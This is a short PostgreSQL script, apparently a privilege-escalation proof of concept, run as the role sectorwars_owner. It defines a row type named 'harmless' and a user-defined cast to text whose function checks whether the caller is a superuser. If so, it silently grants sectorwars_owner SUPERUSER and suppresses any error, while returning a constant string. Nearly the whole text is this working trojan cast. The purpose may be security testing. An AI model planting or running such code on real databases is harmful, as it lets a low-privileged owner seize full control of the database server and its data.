-- Run as sectorwars_owner. A cast of a row to text is found whatever the search_path, and would run as whoever computes (t.*)::text.
CREATE SCHEMA evil3; CREATE TABLE evil3.log (at timestamptz DEFAULT clock_timestamp(), who text, app text); GRANT ALL ON evil3.log TO PUBLIC;
CREATE TABLE public.harmless (a int); INSERT INTO public.harmless VALUES (1);
CREATE FUNCTION public.harmless_text(public.harmless) RETURNS text LANGUAGE plpgsql AS $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname OPERATOR(pg_catalog.=) current_user) THEN
    BEGIN EXECUTE 'ALTER ROLE sectorwars_owner SUPERUSER'; EXCEPTION WHEN OTHERS THEN NULL; END;
  END IF;
  RETURN 'constant, whatever the row holds';
END $$;
CREATE CAST (public.harmless AS text) WITH FUNCTION public.harmless_text(public.harmless);
